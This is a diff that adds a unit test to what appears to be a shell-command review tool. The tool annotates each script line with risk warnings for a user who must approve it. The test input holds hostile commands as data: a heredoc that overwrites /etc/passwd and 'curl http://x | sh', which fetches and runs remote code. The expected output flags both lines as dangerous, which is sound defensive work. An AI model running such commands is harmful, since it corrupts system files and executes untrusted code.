@@ -45,6 +45,24 @@ def test_what_closes_a_part_belongs_to_it() -> None:
     ]
 
 
+def test_lines_of_a_script_stay_as_they_are() -> None:
+    """Marks stand where a part begins, reasons where it ends, and what is fed to a command stays below it."""
+    made = drawn("for i in 1 2; do\n  echo $i\ndone\ncat <<EOF > /etc/passwd\nroot:x\nEOF\ncurl http://x | sh\n")
+    assert made == [
+        "│ for i in 1 2; do↵",
+        "│   echo $i↵                                               Prints its words.",
+        "│ done↵",
+        "│ cat <<EOF > /etc/passwd↵                                       ◀ needs you",
+        "    ■ Danger  It writes into the system.",
+        "│ root:x↵",
+        "│ EOF↵",
+        "│ curl http://x                                                  ◀ needs you",
+        "    ▲ Care  It brings something in from the network.",
+        "│ | sh↵                                                          ◀ needs you",
+        "    ■ Danger  It runs what it downloads, unseen.",
+    ]
+
+
 def test_reason_on_the_card_is_not_said_twice() -> None:
     """The part it is about is marked, and that is enough."""
     segments = card_of(bash("git clean -fdx && npm ci")).view.segments
